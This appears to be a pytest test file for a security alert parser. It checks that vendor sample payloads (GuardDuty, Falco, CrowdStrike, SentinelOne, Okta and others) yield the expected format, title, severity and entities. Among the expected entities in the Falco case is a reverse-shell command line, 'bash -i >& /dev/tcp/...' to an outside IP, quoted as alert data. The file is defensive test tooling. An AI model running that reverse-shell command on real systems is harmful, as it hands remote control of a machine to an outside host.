"""The alert format catalogue on genuine public sample payloads (tests/fixtures/alerts/NOTICE).

One row per file: the format that must match, the title, the severity and entities
(kind, value, role) that must be among those read.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from alerts import catalogue
from alerts.catalogue import FormatError, default_catalogue, load_catalogue
from alerts.jmes import compile_expression
from alerts.parse import parse_alert
from cli.main import app

ALERTS = Path(__file__).parents[1] / "fixtures" / "alerts"
E = tuple[str, str, str | None]

CASES: list[tuple[str, str, str, str | None, set[E]]] = [
    (
        "warren-guardduty.json",
        "guardduty",
        "EC2 instance i-0a1b2c3d4e5f67890 is querying a domain name associated with a known "
        "command and control server.",
        "high",
        {("domain", "xr7v2k9q.com", "destination"), ("resource", "i-0a1b2c3d4e5f67890", "target")},
    ),
    (
        "leveret-guardduty.json",
        "guardduty",
        "Drop Point domain name queried by EC2 instance i-99999999.",
        "high",
        {("domain", "3322.org", "destination")},
    ),
    (
        "warren-scc.json",
        "scc",
        "Malware: Bad Domain on suspicious-instance",
        "high",
        {("domain", "download-update.online", None), ("ip", "161.97.182.121", "target")},
    ),
    (
        "leveret-scc.json",
        "scc",
        "Execution: Cryptocurrency Mining Hash Match on web-server-prod-01",
        "critical",
        {("user", "attacker@external-domain.com", "actor")},
    ),
    (
        "warren-crowdstrike-falcon.json",
        "crowdstrike_stream",
        "Cobalt Strike Beacon Activity on DESKTOP-WS0042",
        "critical",
        {
            ("host", "DESKTOP-WS0042", "target"),
            ("user", "t.yamamoto", "actor"),
            ("ip", "1.12.66.17", "destination"),
            ("hash", "7b4d61c3a058c0f9e7a24d2ef5c1b4a3d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3", None),
        },
    ),
    (
        "warren-falco.json",
        "falco",
        "Redirect STDOUT/STDIN to Network Connection in Container in web-frontend",
        "critical",
        {
            ("user", "www-data", "actor"),
            ("ip", "155.94.163.103", "destination"),
            ("process", "bash -i >& /dev/tcp/155.94.163.103/8080 0>&1", None),
            ("host", "k8s-worker-node-03", "target"),
        },
    ),
    (
        "warren-defender-endpoint.json",
        "defender_endpoint",
        "Suspicious credential dumping activity on pc-sales-0215.corp.example-inc.local",
        "high",
        {
            ("host", "pc-sales-0215.corp.example-inc.local", "target"),
            ("user", "k.suzuki", "actor"),
            ("ip", "43.208.238.110", None),
            ("file", "C:\\Users\\k.suzuki\\AppData\\Local\\Temp\\mimi.ps1", None),
        },
    ),
    (
        "microsoft-graph-alert-v2.json",
        "graph_alert",
        "Suspicious execution of hidden file on tempDns",
        "low",
        {
            ("host", "tempDns", "target"),
            ("hash", "8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec", None),
            ("process", '"MsSense.exe"', None),
        },
    ),
    (
        "azure-monitor-common-schema.json",
        "azure_monitor",
        "WCUS-R2-Gen2 on wcus-r2-gen2",
        "low",  # Sev3
        {("resource", "wcus-r2-gen2", "target")},
    ),
    (
        "okta-event-hook.json",
        "okta",
        "User login to Okta",
        "info",
        {("user", "admin@example.com", "actor"), ("ip", "12.97.85.90", "source")},
    ),
    (
        "splunk-webhook.json",
        "splunk",
        "Splunk alert (app search)",  # the documented sample has no search_name
        None,
        set(),
    ),
    (
        "demisto-splunk-notable.json",
        "splunk",
        "Root sucess",  # rule_name, as the notable has it
        "info",  # urgency informational
        {("user", "root", "actor")},
    ),
    (
        "wazuh-rootcheck.json",
        "wazuh",
        "SSH Hardening - 9: Wrong Maximum number of authentication attempts on manager",
        "low",  # level 3
        {("host", "manager", "target"), ("file", "/etc/ssh/sshd_config", None)},
    ),
    (
        "demisto-sentinelone-threat.json",
        "sentinelone",
        "Ncat Netcat Portable - CHIP-Installer.exe on EC2AMAZ-AJ0KANC",
        "high",  # confidenceLevel malicious
        {
            ("host", "EC2AMAZ-AJ0KANC", "target"),
            ("user", "EC2AMAZ-AJ0KANC\\Administrator", "actor"),
            ("hash", "d8757a0396d05a1d532422827a70a7966c361366", None),
        },
    ),
    (
        "demisto-chronicle-detections.json",
        "chronicle",
        "SampleRule on ray-xxx-laptop",
        None,
        {("host", "ray-xxx-laptop", "source"), ("domain", "is5-ssl.mzstatic.com", "destination")},
    ),
    (
        "msteams-alertmanager-webhook.json",
        "alertmanager",
        "Server High Memory usage",
        "medium",  # severity: warning
        {("host", "instance-with-hyphen_and_underscore", "target")},
    ),
    (
        "kibana-security-alert.json",
        "elastic",
        "threat-match-rule on security-linux-1",
        "low",
        {("host", "security-linux-1", "target")},
    ),
    (
        "demisto-datadog-signal.json",
        "datadog",
        "Brute Force Login Detection",  # the rule's name (the signal has no title)
        None,
        set(),
    ),
    # Okta System Log as SIEMs deliver it (keys lower-cased): the title is what happened
    (
        "panther-okta-threatinsight.json",
        "okta",
        "Request from suspicious actor",
        "medium",
        {("ip", "1.2.3.4", "source")},
    ),
    (
        "panther-okta-admin-role.json",
        "okta",
        "Grant user privilege",  # not the actor's display name (Jack Naglieri)
        "info",
        {("user", "jack@acme.io", "actor"), ("user", "alice@acme.io", "target")},
    ),
    # SentinelOne alert, threat activity and alert activity
    (
        "elastic-sentinelone-alert.json",
        "sentinelone_alert",
        "test5 on srv-win1",
        "critical",
        {
            ("host", "srv-win1", "target"),
            ("hash", "a2d8d23854e33984c08dcf8b03edc619c9c5ec69", "source"),
            ("user", "NT AUTHORITY\\SYSTEM", "actor"),
        },
    ),
    (
        "panther-sentinelone-threat-activity.json",
        "sentinelone_activity",
        "Threat with confidence level malicious detected: eicar.txt",
        "high",
        {
            ("host", "BobsPC", "target"),
            ("hash", "cf8bd9dfddff007f75adf4c2be48005cea317c62", None),
            ("file", "/home/ubuntu/eicar.txt", None),
        },
    ),
    (
        "panther-sentinelone-alert-activity.json",
        "sentinelone_activity",
        "Alert created for sshd from Custom Rule: test-rule in Group Default Group in Site "
        "Default site of Account Account1, detected on BobsPC.",
        "critical",  # E_CRITICAL
        {("hash", "e020cd039b099b6bfdfd33d13554da5383cc4cc0", None)},
    ),
    # Wiz issues: the webhook and the issues API (title: the source rule's name)
    (
        "panther-wiz-issue-webhook.json",
        "wiz",
        "Recon:EC2/PortProbeUnprotectedPort on jenkins-aws",
        "high",
        {("resource", "jenkins-aws", "target")},
    ),
    (
        "panther-wiz-issue-api.json",
        "wiz_issue",
        "Alert Name on someName",  # not "High-profile vulnerability exploited in the wild"
        "high",
        {("resource", "someName", "target")},
    ),
    # CloudTrail records: raw, and through EventBridge
    (
        "panther-cloudtrail-root-login.json",
        "cloudtrail",
        "ConsoleLogin on signin.amazonaws.com",
        None,
        {("ip", "111.111.111.111", "source"), ("user", "arn:aws:iam::123456789012:root", "actor")},
    ),
    (
        "panther-cloudtrail-create-access-key.json",
        "cloudtrail",
        "CreateAccessKey on iam.amazonaws.com",
        None,
        {("user", "arn:aws:iam::123456789:user/user1", "actor"), ("resource", "user2", "target")},
    ),
    (
        "awsdocs-cloudtrail-eventbridge.json",
        "cloudtrail",
        "PutObject on s3.amazonaws.com",
        None,
        {
            ("ip", "203.0.113.34", "source"),
            ("user", "arn:aws:iam::123456789012:user/username", "actor"),
            ("resource", "arn:aws:s3:::username-sfn-tutorial", "target"),
        },
    ),
    # Microsoft: a Sentinel incident and security alerts in the ARM shape
    (
        "arm-sentinel-incident.json",
        "sentinel_incident",
        "My incident",
        "high",
        set(),
    ),
    (
        "arm-sentinel-incident-alert.json",
        "azure_security_alert",
        "myAlert",
        "low",
        set(),
    ),
    (
        "arm-defender-for-cloud-alert.json",
        "azure_security_alert",
        "Azure Security Center test alert (not a threat) on vm1",
        "high",
        {("ip", "192.0.2.1", None), ("host", "vm1", "target")},
    ),
    # SCC as Google SecOps shows it: an observation (Sensitive Actions Service)
    (
        "secops-scc-observation.json",
        "scc",
        "Persistence: Project SSH Key Added on spring-banner-350111",
        "low",
        {
            ("user", "dummy.user@dummy.com", "actor"),
            ("ip", "198.51.100.1", "source"),
            ("resource", "//compute.googleapis.com/projects/spring-banner-350111", "target"),
        },
    ),
    (
        "panther-securityhub-asff.json",
        "securityhub",
        "Suspicious activity detected accessing private decoy S3 bucket panther-databucket",
        "high",
        {
            ("ip", "111.111.111.111", "source"),
            ("resource", "arn:aws:s3:::panther-databucket", "target"),
        },
    ),
    (
        "demisto-crowdstrike-alert-v2.json",
        "crowdstrike_alert",
        "EC2 security group modified with new ingress rule allowing traffic from the public "
        "internet",
        "high",  # 70 / High
        {
            ("ip", "192.0.2.1", "source"),
            ("user", "dummy-user", "actor"),
            ("resource", "sg-0000000000000dummy", "target"),
        },
    ),
]


LEVERET_GD = "Drop Point domain name queried by EC2 instance i-99999999."
NO_TIME = {"splunk-webhook.json"}  # the webhook payload carries no time


def load(name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((ALERTS / name).read_text())
    return data


@pytest.mark.parametrize(
    ("name", "fmt", "title", "severity", "entities"), CASES, ids=[c[0] for c in CASES]
)
def test_sample_payloads(
    name: str, fmt: str, title: str, severity: str | None, entities: set[E]
) -> None:
    alert = parse_alert(load(name))
    assert (alert.format, alert.title, alert.severity) == (fmt, title, severity)
    assert entities <= {(e.kind, e.value, e.role) for e in alert.entities}
    assert (alert.event_time is None) == (name in NO_TIME)


def test_every_fixture_is_in_the_table_and_named_in_notice() -> None:
    files = {p.name for p in ALERTS.glob("*.json")}
    notice = (ALERTS / "NOTICE").read_text()
    assert {c[0] for c in CASES} <= files
    assert all(name in notice for name in files)


def test_every_shipped_format_has_a_sample() -> None:
    # guardduty_slack: a Slack message, read through bot.intake.alert_channels
    # (test_alert_families.py); defender_alertinfo: test_alert_shapes.py
    tested = {c[1] for c in CASES} | {"generic", "guardduty_slack", "defender_alertinfo"}
    shipped = {f.name for f in default_catalogue().formats}
    assert shipped - tested == set()


def test_ids_under_non_hash_keys_are_not_hashes() -> None:
    alert = parse_alert(load("warren-crowdstrike-falcon.json"))
    values = {i.value for i in alert.indicators}
    assert "a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4" not in values  # customerIDString
    assert "f1e2d3c4b5a6f1e2d3c4b5a6f1e2d3c4" not in values  # SensorId
    assert "falcon.crowdstrike.com" not in values  # the console link


def test_user_format_overrides_and_extends(tmp_path: Path) -> None:
    (tmp_path / "falco.toml").write_text(
        'name = "falco"\nsource = "runtime"\n[match]\nall = ["rule"]\n'
        '[fields]\ntitle = "rule"\nseverity = "priority"\n'
        '[severity]\nwords = { critical = "low" }\n'
    )
    (tmp_path / "acme.toml").write_text(
        'name = "acme"\npriority = 1\n[match]\nall = ["acme_alert"]\n'
        '[fields]\ntitle = "acme_alert.headline"\nseverity = "acme_alert.level"\n'
        '[severity]\nranges = [[0, "low"], [5, "high"]]\n'
        '[[entities]]\nkind = "user"\nrole = "actor"\nvalue = "acme_alert.who"\n'
    )
    catalogue = load_catalogue(tmp_path)
    falco = parse_alert(load("warren-falco.json"), catalogue=catalogue)
    assert (falco.source, falco.severity) == ("runtime", "low")
    acme = parse_alert(
        {"acme_alert": {"headline": "Door left open", "level": 6, "who": "j.doe"}},
        catalogue=catalogue,
    )
    assert (acme.format, acme.title, acme.severity) == ("acme", "Door left open", "high")
    assert [(e.kind, e.value, e.role) for e in acme.entities] == [("user", "j.doe", "actor")]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('name = "x"\n[match]\nall = ["a"]\n[fields]\ntitle = "a[["\n', "bad expression"),
        # expressions no payload may ever reach are still checked when the file is read
        ('name = "x"\n[match]\nall = ["a"]\nany = ["b", "c.("]\n[fields]\ntitle = "a"\n', "c.\\("),
        (
            'name = "x"\n[match]\nall = ["a"]\n[fields]\ntitle = "a"\n'
            '[[entities]]\nkind = "ip"\nvalue = "b[?"\n',
            "bad expression 'b",
        ),
        ('name = "x"\n[match]\nall = ["a"]\nenvelope = ["d.("]\n[fields]\ntitle = "a"\n', "d.\\("),
        ('name = "x"\n[match]\nall = ["a"]\n', "fields"),
        ('name = "x"\nbogus = 1\n[match]\n[fields]\ntitle = "a"\n', "bogus"),
        ("name = \n", "Invalid"),
    ],
)
def test_bad_format_files_name_file_and_problem(tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "x.toml").write_text(text)
    with pytest.raises(FormatError, match=message) as err:
        load_catalogue(tmp_path)
    assert "x.toml" in str(err.value)


def test_every_shipped_expression_compiles() -> None:
    for fmt in default_catalogue().formats:  # loaded unchecked: each expression on first use
        fmt.check()
        assert fmt.expressions(), fmt.name


def test_the_shipped_catalogue_compiles_only_what_an_alert_needs(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Start-up: detection compiles the match expressions it tries, reading compiles the
    matched format's fields, nothing else (258 expressions, ~20 ms, before)."""
    compiled: list[str] = []

    def counted(expression: str, *, origin: str) -> Any:
        compiled.append(expression)
        return compile_expression(expression, origin=origin)

    monkeypatch.setattr(catalogue, "compile_expression", counted)
    default_catalogue.cache_clear()
    try:
        shipped = default_catalogue()
        assert compiled == []
        alert = parse_alert(load("leveret-scc.json"), catalogue=shipped)
        scc = shipped.get("scc")
        assert alert.format == "scc" and scc is not None
        f = scc.spec.fields
        read = [f.title, f.severity, f.time, f.description, *(e.value for e in scc.spec.entities)]
        assert {e for e in read if e} <= set(compiled)
        assert len(compiled) < sum(len(f.expressions()) for f in shipped.formats) / 2
        before = len(compiled)
        parse_alert(load("leveret-scc.json"), catalogue=shipped)
        assert len(compiled) == before  # compiled once per format
    finally:
        default_catalogue.cache_clear()


def test_cli_parse_shows_format_and_entities(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SOCBOT_CONFIG", raising=False)
    result = CliRunner().invoke(
        app, ["alerts", "parse", str(ALERTS / "warren-crowdstrike-falcon.json")]
    )
    assert result.exit_code == 0, result.output
    assert "format: crowdstrike_stream" in result.output
    assert "severity: critical" in result.output
    assert "t.yamamoto" in result.output and "actor" in result.output
    as_json = CliRunner().invoke(
        app, ["alerts", "parse", "--json", str(ALERTS / "warren-falco.json")]
    )
    assert json.loads(as_json.output)["format"] == "falco"


def test_cli_parse_bad_format_dir_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "x.toml").write_text("name = 1\n")
    result = CliRunner().invoke(
        app, ["alerts", "parse", "--formats", str(tmp_path), str(ALERTS / "warren-falco.json")]
    )
    assert result.exit_code == 2
    assert "x.toml" in result.output


def _sns(message: dict[str, Any]) -> dict[str, Any]:
    return {
        "Type": "Notification",
        "MessageId": "22b80b92-fdea-4c2c-8f9d-bdfb0c7bf324",
        "TopicArn": "arn:aws:sns:us-east-1:123456789012:guardduty",
        "Subject": "GuardDuty finding",
        "Message": json.dumps(message),
        "Timestamp": "2024-01-01T00:00:00Z",
    }


@pytest.mark.parametrize(
    ("envelope", "fmt", "title"),
    [
        (_sns(load("leveret-guardduty-finding.json")), "guardduty", LEVERET_GD),
        (
            {"Records": [{"EventSource": "aws:sns", "Sns": _sns(load("leveret-guardduty.json"))}]},
            "guardduty",
            LEVERET_GD,
        ),
        (
            {"Findings": [load("panther-securityhub-asff.json")] * 3},
            "securityhub",
            "Suspicious activity detected accessing private decoy S3 bucket panther-databucket"
            " (+2 more findings)",
        ),
        (
            {
                "@odata.context": "https://graph.microsoft.com/v1.0/$metadata#security/alerts_v2",
                "value": [load("microsoft-graph-alert-v2.json")] * 2,
            },
            "graph_alert",
            "Suspicious execution of hidden file on tempDns (+1 more alert)",
        ),
        (
            {"findings": [load("leveret-scc.json")["finding"]]},
            "scc",
            "Execution: Cryptocurrency Mining Hash Match on web-server-prod-01",
        ),
    ],
    ids=["sns", "lambda-sns", "asff-list", "graph-list", "scc-findings-list"],
)
def test_envelopes_around_genuine_samples(envelope: dict[str, Any], fmt: str, title: str) -> None:
    alert = parse_alert(envelope)
    assert (alert.format, alert.title) == (fmt, title)


def test_minimal_eventbridge_finding_is_guardduty_not_generic() -> None:
    # Constructed: an EventBridge event whose detail has no "service" block.
    event = {
        "version": "0",
        "id": "7bf73129-1428-4cd3-a780-95db273d1602",
        "detail-type": "GuardDuty Finding",
        "source": "aws.guardduty",
        "time": "2024-01-01T00:00:00Z",
        "detail": {"type": "Recon:EC2/PortProbeUnprotectedPort", "severity": 2, "title": "Probe"},
    }
    alert = parse_alert(event)
    assert (alert.format, alert.source, alert.severity) == ("guardduty", "guardduty", "low")


def test_vendor_scales() -> None:
    falco = load("warren-falco.json")
    graph = load("microsoft-graph-alert-v2.json")
    wazuh = load("wazuh-rootcheck.json")
    cases = [
        (dict(falco, priority="E_CRITICAL"), "critical"),
        (dict(falco, priority="Notice"), "low"),
        (dict(graph, severity="high", serviceSource="microsoftSentinel"), "high"),
        (dict(wazuh, rule=dict(wazuh["rule"], level=12)), "high"),
        (dict(wazuh, rule=dict(wazuh["rule"], level=15)), "critical"),
    ]
    for payload, expected in cases:
        assert parse_alert(payload).severity == expected
    assert parse_alert(cases[2][0]).source == "sentinel"


def test_a_source_read_from_the_payload_must_be_a_plain_name(tmp_path: Path) -> None:
    (tmp_path / "acme.toml").write_text(
        'name = "acme"\n[match]\nall = ["headline"]\n[fields]\ntitle = "headline"\n'
        'source = "vendor"\n'
    )
    catalogue = load_catalogue(tmp_path)
    ok = parse_alert({"headline": "Door open", "vendor": "Doors"}, catalogue=catalogue)
    bad = parse_alert({"headline": "Door open", "vendor": "../../x"}, catalogue=catalogue)
    assert (ok.source, bad.source) == ("doors", "acme")


@pytest.mark.parametrize(
    ("page", "fmt"),
    [
        ({"data": [load("demisto-sentinelone-threat.json")], "pagination": {}}, "sentinelone"),
        (
            {
                "meta": {"query_time": 0.1},
                "resources": [load("demisto-crowdstrike-alert-v2.json")],
                "errors": [],
            },
            "crowdstrike_alert",
        ),
        (
            {
                "_index": ".internal.alerts-security.alerts-default-000001",
                "_id": "x",
                "_source": load("kibana-security-alert.json"),
            },
            "elastic",
        ),
    ],
    ids=["sentinelone-page", "crowdstrike-page", "elasticsearch-hit"],
)
def test_api_pages_and_search_hits(page: dict[str, Any], fmt: str) -> None:
    assert parse_alert(page).format == fmt
